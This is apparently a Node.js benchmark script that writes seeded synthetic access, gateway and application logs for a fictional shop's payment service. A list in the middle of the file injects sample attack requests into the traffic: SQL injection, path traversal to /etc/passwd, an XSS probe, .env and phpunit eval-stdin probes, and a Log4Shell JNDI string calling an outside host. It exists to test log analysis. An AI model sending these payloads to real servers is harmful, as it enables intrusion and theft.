// Makes seeded log files of a given size: node bench/logs/make-logs.mjs FOLDER [MB] [SEED]
// access.log (combined), gateway.jsonl (JSON lines), app.log (logback).
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { megabytesOf, writeLines } from './block-file.mjs';

/** @param only names of the files to make; all three when absent. */
export function makeLogs(folder, megabytes, seed = 42, only = undefined) {
  mkdirSync(folder, { recursive: true });
  let state = seed >>> 0;
  const next = () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
  const int = (n) => Math.floor(next() * n);
  const pick = (list) => list[int(list.length)];
  const two = (n) => String(n).padStart(2, '0');
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const agents = [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36',
    'Java/17.0.15',
    'Go-http-client/1.1',
  ];
  // Some twenty thousand clients, as a busy shop has.
  const address = () => `${10 + int(5)}.${int(20)}.${int(20)}.${int(10)}`;
  const clf = (d) =>
    `${two(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
  // One request in 2,500 is an attack, one operation in 10,000 leaks a test number.
  const attacks = [
    '/p?id=1%27%20or%20%271%27=%271',
    '/p?id=1+union+select+user,pass+from+users--',
    '/../../../etc/passwd',
    '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/.env',
    '/wp-login.php',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
    '/?x=${jndi:ldap://198.51.100.7/a}',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  ];
  const target = () =>
    int(2500) === 0
      ? pick(attacks)
      : pick([`/p/${int(5000)}`, '/api/pay', '/checkout', `/api/search?q=${pick(['tea', 'lamp', 'cup'])}`]);
  const kinds = {
    'access.log': (d) =>
      `${address()} - - [${clf(d)}] "${pick(['GET', 'POST'])} ${target()} HTTP/1.1" ${pick([200, 200, 200, 200, 304, 404, 502])} ${int(40_000)} "https://shop.test/c/${int(100)}" "${pick(agents)}"`,
    'gateway.jsonl': (d) =>
      JSON.stringify({
        ts: d.toISOString(),
        level: pick(['info', 'info', 'info', 'warn', 'error']),
        service: 'gw',
        trace_id: int(1e15).toString(16),
        merchant: `M${int(500)}`,
        acquirer: pick(['acq1', 'acq2', 'acq3']),
        client_ip: address(),
        endpoint: pick(['/v1/pay', '/v1/refund']),
        amount: int(1e5),
        currency: 'CNY',
        result_code: pick(['00', '00', '00', '05', '51']),
        latency_ms: int(900),
        msg:
          int(10_000) === 0
            ? 'card 4111111111111111 declined'
            : pick(['payment processed', 'payment declined', 'upstream call ok', `order ${int(1e6)} accepted`]),
      }),
    'app.log': (d) =>
      `${d.toISOString().replace('T', ' ').replace('.', ',').slice(0, 23)} [http-nio-8080-exec-${int(20)}] ${pick(['INFO ', 'INFO ', 'WARN ', 'ERROR'])} com.shop.pay.${pick(['CardClient', 'OrderService', 'NotifyController'])} [app2] - ${pick(['payment result', '收到支付请求', 'stock below threshold'])} order=ORD-${int(1e7)} txn=P${int(1e12).toString(16)} channel=card code=${pick(['00', '05'])} cost_ms=${int(800)}`,
  };
  for (const [name, line] of Object.entries(kinds)) {
    if (only && !only.includes(name)) continue;
    writeLines(join(folder, name), megabytesOf(megabytes, int, line));
  }
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const [folder, megabytes = '100', seed = '42'] = process.argv.slice(2);
  if (!folder) {
    console.error('usage: make-logs.mjs FOLDER [MB] [SEED]');
    process.exit(2);
  }
  makeLogs(folder, Number(megabytes), Number(seed));
}
